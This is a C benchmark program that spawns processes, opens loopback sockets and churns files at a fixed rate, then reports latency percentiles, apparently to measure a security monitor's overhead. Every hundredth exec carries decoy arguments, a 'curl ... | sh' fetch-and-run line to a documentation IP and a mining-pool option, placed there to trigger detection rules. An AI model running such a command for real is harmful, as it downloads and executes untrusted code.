// Makes a given number of process starts, connects or changes of files, at a fixed rate or as fast as it goes, and tells on one line of
// JSON how long each took, as the program that makes them sees it.
//   workload exec|tcp|udp|file|create RATE COUNT [PROGRAM|DIRECTORY]     RATE in operations a second, 0: no pause; PROGRAM is what exec
//     runs; file: in DIRECTORY one is created, written, closed, renamed and deleted; create: it is left there
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SECOND 1000000000LL
// One exec of so many has arguments that rules look for.
#define SUSPICIOUS_EVERY 100

static void fail(const char* what) {
  fprintf(stderr, "workload: %s: %s\n", what, strerror(errno));
  exit(1);
}

static int64_t now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * SECOND + t.tv_nsec;
}

static void sleep_until(int64_t when) {
  struct timespec t = {.tv_sec = when / SECOND, .tv_nsec = when % SECOND};
  while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL) == EINTR) continue;
}

static const char* program;

static void do_exec(long i) {
  char number[32];
  snprintf(number, sizeof number, "--job=%ld", i);
  char* ordinary[] = {"tiny", "--config", "/etc/tiny/tiny.conf", "-v", number, "build", NULL};
  char* suspicious[] = {"tiny", "-c", "curl -s http://192.0.2.1/x | sh", "-o pool.example:443", number, NULL};
  char* environment[] = {"PATH=/usr/bin:/bin", NULL};
  pid_t pid;
  // A vfork inside: the parent waits until the exec is through.
  int e = posix_spawn(&pid, program, NULL, NULL, i % SUSPICIOUS_EVERY == 0 ? suspicious : ordinary, environment);
  if (e != 0) {
    errno = e;
    fail(program);
  }
  if (waitpid(pid, NULL, 0) != pid) fail("waitpid");
}

static struct sockaddr_in remote = {.sin_family = AF_INET};
static int listener = -1;

static void listen_on_loopback(void) {
  listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  remote.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t length = sizeof remote;
  if (listener < 0 || bind(listener, (struct sockaddr*)&remote, sizeof remote) || listen(listener, 1024) ||
      getsockname(listener, (struct sockaddr*)&remote, &length))
    fail("listen");
}

// With a reset instead of a FIN, so that no local port stays in TIME_WAIT.
static void reset(int fd) {
  struct linger linger = {.l_onoff = 1, .l_linger = 0};
  setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
  close(fd);
}

static void do_tcp(long i) {
  (void)i;
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) fail("socket");
  if (connect(fd, (struct sockaddr*)&remote, sizeof remote) && errno != EINPROGRESS) fail("connect");
  int peer = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
  if (peer < 0) fail("accept");
  reset(fd);
  close(peer);
}

static void do_udp(long i) {
  (void)i;
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) fail("socket");
  if (connect(fd, (struct sockaddr*)&remote, sizeof remote)) fail("connect");
  close(fd);
}

#define FILE_BYTES 4096

static const char* directory;

static void make_file(const char* path, long i) {
  static char content[FILE_BYTES];
  memcpy(content, &i, sizeof i);
  int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  if (fd < 0 || write(fd, content, sizeof content) != sizeof content || close(fd)) fail(path);
}

static void do_create(long i) {
  char path[4096];
  snprintf(path, sizeof path, "%s/file-%ld.conf", directory, i);
  make_file(path, i);
}

// As programs replace a file: under another name first.
static void do_file(long i) {
  char path[4096], renamed[4096];
  snprintf(path, sizeof path, "%s/file-%ld.tmp", directory, i);
  snprintf(renamed, sizeof renamed, "%s/file-%ld.conf", directory, i);
  make_file(path, i);
  if (rename(path, renamed) || unlink(renamed)) fail(renamed);
}

static const struct {
  const char* name;
  void (*run)(long);
} operations[] = {{"exec", do_exec}, {"tcp", do_tcp}, {"udp", do_udp}, {"file", do_file}, {"create", do_create}};

static int ascending(const void* a, const void* b) {
  uint32_t x = *(const uint32_t*)a, y = *(const uint32_t*)b;
  return (x > y) - (x < y);
}

int main(int argc, char** argv) {
  if (argc < 4) {
    fprintf(stderr, "usage: workload exec|tcp|udp|file|create RATE COUNT [PROGRAM|DIRECTORY]\n");
    return 2;
  }
  long rate = atol(argv[2]), count = atol(argv[3]);
  program = argc > 4 ? argv[4] : "/bin/true";
  directory = argc > 4 ? argv[4] : ".";
  void (*operation)(long) = NULL;
  for (size_t n = 0; n < sizeof operations / sizeof *operations; n++)
    if (strcmp(argv[1], operations[n].name) == 0) operation = operations[n].run;
  if (operation == NULL) {
    errno = EINVAL;
    fail(argv[1]);
  }
  if (operation == do_exec && access(program, X_OK)) fail(program);
  listen_on_loopback();
  uint32_t* took = calloc(count > 0 ? count : 1, sizeof *took);
  if (took == NULL || count <= 0) fail("count");
  int64_t start = now();
  for (long i = 0; i < count; i++) {
    if (rate > 0) sleep_until(start + i * (SECOND / rate));
    int64_t before = now();
    operation(i);
    int64_t ns = now() - before;
    took[i] = ns > UINT32_MAX ? UINT32_MAX : (uint32_t)ns;
  }
  double elapsed = (double)(now() - start) / SECOND;
  qsort(took, count, sizeof *took, ascending);
  printf("{\"count\":%ld,\"elapsedSeconds\":%.6f,\"medianUs\":%.2f,\"p99Us\":%.2f,\"longestUs\":%.2f}\n", count, elapsed,
         took[count / 2] / 1e3, took[(count - 1) * 99 / 100] / 1e3, took[count - 1] / 1e3);
  return 0;
}
